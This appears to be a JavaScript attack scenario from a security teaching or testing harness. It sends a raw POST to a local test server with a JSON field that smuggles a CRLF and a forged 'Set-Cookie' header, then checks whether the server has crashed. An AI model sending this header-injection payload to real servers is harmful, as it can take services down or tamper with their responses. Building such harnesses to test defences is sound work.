import { attack, CannotAttack } from '#attack';

const title = 'Crash the server with a line break in a header';

export default attack('line-break', { step: 3, title }, async ({ target, say }) => {
  const attacker = target.connect();
  const body = JSON.stringify({ to: 'home\r\nSet-Cookie: theme=pwned' });
  attacker.send(`POST /go HTTP/1.1\r\nHost: localhost\r\nContent-Length: ${body.length}\r\n\r\n${body}`);
  const status = await attacker.status(5_000);
  say(`Attacker: POST /go, ${body} …  ${status || 'no response'}`);
  attacker.vanish();

  try {
    const { status: next } = await target.client().get('/search');
    say(`Reader: GET /search …  ${next}`);
    return 'blocked';
  } catch (error) {
    if (!(error instanceof CannotAttack)) throw error;
    say('Reader: GET /search …  no response. The server has crashed.');
    return 'succeeded';
  }
});
